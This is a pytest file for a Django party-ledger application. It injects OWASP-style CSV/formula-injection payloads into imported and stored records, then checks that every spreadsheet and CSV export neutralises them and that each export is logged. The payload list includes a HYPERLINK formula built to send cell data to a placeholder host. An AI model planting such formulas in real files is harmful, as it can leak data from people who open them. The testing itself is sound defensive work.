"""No export carries a formula (issue 11, problem 2) and every export is in the trail (problem 10).

OWASP's CSV-injection payloads go in through the real ledger import (members and units, as a CSV
file: an .xlsx written by openpyxl would already hold them as formulas) and, for every other
text a list exports, straight into the rows of the demo federation. Then every export the
officer can reach — every list with ``?export=xlsx``, the member export personal and masked,
the units export, the coverage workbook — and the audit CSV as the auditor are read back cell
by cell: no cell is a formula and no text starts with a character that makes one.
"""

import csv
import datetime
import io

import openpyxl
import pytest
from django.db.models import CharField, Value
from django.db.models.functions import Cast, Concat
from django.urls import reverse
from stdnum.cn import ric

from dangjian.access import listspec
from dangjian.applications.models import Application, FormationCase
from dangjian.core.audit import record_event
from dangjian.core.events import AuditEvent
from dangjian.core.exports import FORMULA_TRIGGERS, safe_cell, unescape_cell
from dangjian.core.models import AuditLog
from dangjian.governance.models import MajorDecision, UnitLeader
from dangjian.inspections.models import AnnualInspection, GradeEvaluation, Visit
from dangjian.ledgers.models import LedgerUpload
from dangjian.orglife.models import Meeting
from dangjian.party.models import (
    Employment,
    Instructor,
    InstructorAssignment,
    PartyMember,
    PartyOrganization,
)
from dangjian.recognition.models import Recognition
from dangjian.recommendations.models import Letter
from dangjian.registry.models import Organization

PAYLOADS = ['=HYPERLINK("http://x/?"&E2,"点击")', "+1", "-1+1", "@SUM(1)", "\t=1", "\r=1"]

# The text people type that the lists export (system-made codes, hashes and paths are not).
TYPED_TEXT = {
    Organization: [
        "name",
        "district",
        "supervising_unit",
        "registration_authority",
        "registered_address",
        "contact_name",
    ],
    PartyOrganization: ["name", "approval_doc_no"],
    PartyMember: ["name", "ethnicity", "relation_external"],
    Employment: ["job_title"],
    Instructor: ["name", "dispatched_by", "notice_no"],
    InstructorAssignment: ["notice_no"],
    UnitLeader: ["name"],
    MajorDecision: ["subject", "note"],
    Meeting: ["topic", "minutes"],
    AnnualInspection: ["notes"],
    GradeEvaluation: ["notice_no", "notes"],
    Visit: ["visitors", "findings", "follow_up"],
    Letter: ["recipient", "title", "body", "contact_note", "sent_via", "reply", "close_note"],
    Application: [
        "name",
        "district",
        "supervising_unit",
        "registration_authority",
        "registered_address",
        "contact_name",
        "statement",
        "reason",
    ],
    FormationCase: ["reason", "name", "approval_doc_no", "note"],
    Recognition: ["title", "person_name", "granted_by", "certificate_no", "note"],
}


def _id_number(n: int) -> str:
    body = f"110105{datetime.date(1990, 3, 7):%Y%m%d}{n:03d}"
    return body + ric.calc_check_digit(body + "0")


def _import_csv(client, federation, ledger: str, rows) -> LedgerUpload:
    data = io.StringIO()
    csv.writer(data).writerows(rows)
    file = io.BytesIO(data.getvalue().encode("utf-8"))
    file.name = f"{ledger}.csv"
    response = client.post(
        reverse("ledgers:upload"), {"ledger": ledger, "federation": federation.pk, "file": file}
    )
    item = LedgerUpload.objects.get(pk=int(response["Location"].rstrip("/").split("/")[-1]))
    assert item.status == "validated", (item.message, item.preview)
    assert not item.counts.get("invalid"), item.preview
    client.post(reverse("ledgers:commit", args=[item.pk]))
    item.refresh_from_db()
    assert item.status == "committed", item.message
    return item


def _poison_rows() -> None:
    """Each typed text field of every row starts with one of the payloads (row by row in turn),
    followed by the row's id so that names stay distinct."""
    for model, names in TYPED_TEXT.items():
        pks = list(model._default_manager.order_by("pk").values_list("pk", flat=True))
        for k, payload in enumerate(PAYLOADS):
            chosen = pks[k :: len(PAYLOADS)]
            if not chosen:
                continue
            values = {}
            for name in names:
                limit = model._meta.get_field(name).max_length or 1000
                values[name] = Concat(
                    Value(payload[: max(2, limit - 8)]),
                    Value(" "),
                    Cast("pk", CharField()),
                    output_field=CharField(),
                )
            model._default_manager.filter(pk__in=chosen).update(**values)


def _imported_payloads(client, federation) -> tuple[list[str], list[str]]:
    unit = Organization.objects.filter(memberships__federation=federation).first()
    units = [["单位名称", "统一社会信用代码", "法人类型", "单位类别", "注册地址", "联系人"]]
    unit_names = []
    from stdnum.cn import uscc

    for n, payload in enumerate(PAYLOADS, start=1):
        body = f"51120000MJ{9000 + n:07d}"[:17]
        name = f"{payload}协会{n}"
        unit_names.append(name)
        units.append(
            [name, body + uscc.calc_check_digit(body), "社会团体", "协会", payload, payload]
        )
    _import_csv(client, federation, "organizations", units)
    members = [["姓名", "性别", "民族", "公民身份号码", "入党日期", "工作单位统一社会信用代码"]]
    members[0] += ["职务", "组织关系所在党组织"]
    member_names = []
    for n, payload in enumerate(PAYLOADS, start=1):
        name = f"{payload}{n}"
        member_names.append(name)
        members.append(
            [
                name,
                "男女"[1 - n % 2],
                payload[:20],  # 民族 holds 20 characters: a longer cell is refused
                _id_number(n),
                "2015-07-01",
                unit.uscc,
                payload,
                payload,
            ]
        )
    _import_csv(client, federation, "members", members)
    return unit_names, member_names


def _clean(text: str) -> str:
    """What the import keeps of a typed text (tabs and line breaks become spaces, ends trimmed)."""
    return " ".join(text.split())


def _workbook_cells(response, where: str, problems: list[str]) -> list[str]:
    assert response.status_code == 200, where
    assert "spreadsheetml" in response["Content-Type"], where
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    problems.append(f"{where} {sheet.title}!{cell.coordinate}: formula")
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    if cell.value.startswith(FORMULA_TRIGGERS):
                        problems.append(f"{where} {sheet.title}!{cell.coordinate}: {cell.value!r}")
    return texts


@pytest.mark.django_db
def test_no_export_carries_a_formula(persona_client, demo_federation, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    officer = persona_client("officer")
    # A letter drafted through its service, to a recipient typed as a payload.
    from django.contrib.auth import get_user_model

    from dangjian.recommendations import services as letters
    from dangjian.rules.models import Finding

    letters.draft_letter(
        demo_federation,
        list(Finding.objects.filter(organization__memberships__federation=demo_federation)[:2]),
        recipient_kind="supervisor",
        recipient=PAYLOADS[0],
        actor=get_user_model().objects.get(username="officer"),
    )
    _poison_rows()  # first: the imported rows below keep their own names
    unit_names, member_names = _imported_payloads(officer, demo_federation)
    problems: list[str] = []
    neutralised: dict[str, int] = {}

    # Every list page's export, as the persona its baseline is measured with.
    for key, spec in sorted(listspec.registry().items()):
        if spec.url_name.startswith("access:"):
            continue  # the audit trail's list: its export is the CSV below
        url = reverse(spec.url_name, args=spec.baseline_args() if spec.baseline_args else [])
        client = persona_client(spec.baseline_user)
        response = client.get(url, {**spec.baseline_query, "export": "xlsx"})
        if response.status_code == 200 and "spreadsheetml" in response.get("Content-Type", ""):
            texts = _workbook_cells(response, key, problems)
            neutralised[key] = sum(t.startswith("'") for t in texts)

    members = _workbook_cells(
        officer.get(reverse("ledgers:export_members"), {"personal": "1"}), "members", problems
    )
    masked = _workbook_cells(officer.get(reverse("ledgers:export_members")), "masked", problems)
    units = _workbook_cells(officer.get(reverse("ledgers:export_organizations")), "units", problems)
    coverage = _workbook_cells(officer.get(reverse("ledgers:export_coverage")), "cov", problems)

    # The audit trail names the poisoned objects; the auditor's CSV must not run them either.
    record_event(None, AuditEvent.LEDGERS_IMPORTED, Organization.objects.get(name=unit_names[0]))
    response = persona_client("auditor").get(reverse("access:audit_export"))
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    problems += [f"audit.csv: {c!r}" for c in cells if c.startswith(FORMULA_TRIGGERS)]

    assert problems == [], "\n".join(problems[:40])
    # The payloads did reach the exports, neutralised (not dropped or blanked).
    for name in member_names:
        assert safe_cell(_clean(name)) in members and safe_cell(_clean(name)) in masked
    for name in unit_names:
        assert safe_cell(_clean(name)) in units
    assert any(c.startswith("'") for c in coverage)  # a poisoned district is a breakdown row
    assert any(c.startswith("'=HYPERLINK") for c in cells)
    for key in (
        "inspections:visit_list",
        "recommendations:letter_list",
        "party:party_organization_list",
        "applications:instructor_list",
    ):
        assert neutralised.get(key), (key, sorted(neutralised.items()))


@pytest.mark.django_db
def test_an_exported_formula_like_name_imports_back_as_it_was(
    persona_client, demo_federation, settings, tmp_path
):
    settings.MEDIA_ROOT = tmp_path
    officer = persona_client("officer")
    _unit_names, member_names = _imported_payloads(officer, demo_federation)
    data = officer.get(reverse("ledgers:export_members"), {"personal": "1"}).content
    file = io.BytesIO(data)
    file.name = "members.xlsx"
    response = officer.post(
        reverse("ledgers:upload"),
        {"ledger": "members", "federation": demo_federation.pk, "file": file},
    )
    item = LedgerUpload.objects.get(pk=int(response["Location"].rstrip("/").split("/")[-1]))
    assert item.status == "validated", item.message
    # The apostrophe the export added is not read as part of the name: nothing changes.
    assert item.counts["new"] == 0 and item.counts["changed"] == 0, item.preview
    for name in member_names:
        assert PartyMember.objects.filter(name=_clean(name)).count() == 1


@pytest.mark.parametrize("text", [*PAYLOADS, "'=1", "''+2", "'", "'abc", "abc", "", "-"])
def test_safe_cell_round_trips(text):
    written = safe_cell(text)
    assert not written.startswith(FORMULA_TRIGGERS)
    assert unescape_cell(written) == text


def test_numbers_and_dates_stay_typed():
    day = datetime.date(2020, 1, 2)
    assert safe_cell(-1) == -1 and safe_cell(-2.5) == -2.5 and safe_cell(day) is day
    assert safe_cell(None) is None


@pytest.mark.django_db
@pytest.mark.parametrize(
    "url,params,event",
    [
        ("ledgers:export_organizations", {}, AuditEvent.LEDGERS_EXPORT_ORGANIZATIONS),
        ("ledgers:export_members", {}, AuditEvent.LEDGERS_EXPORT_MEMBERS_MASKED),
        ("ledgers:export_members", {"personal": "1"}, AuditEvent.LEDGERS_EXPORT_MEMBERS),
        ("ledgers:export_coverage", {}, AuditEvent.LEDGERS_EXPORT_COVERAGE),
    ],
)
def test_every_ledger_export_is_in_the_trail(officer_client, url, params, event):
    before = AuditLog.objects.filter(event_type=event).count()
    assert officer_client.get(reverse(url), params).status_code == 200
    log = AuditLog.objects.filter(event_type=event).latest("id")
    assert AuditLog.objects.filter(event_type=event).count() == before + 1
    assert log.action == AuditLog.Action.READ and log.actor is not None
    if url != "ledgers:export_coverage":
        assert log.changes["rows"] > 0
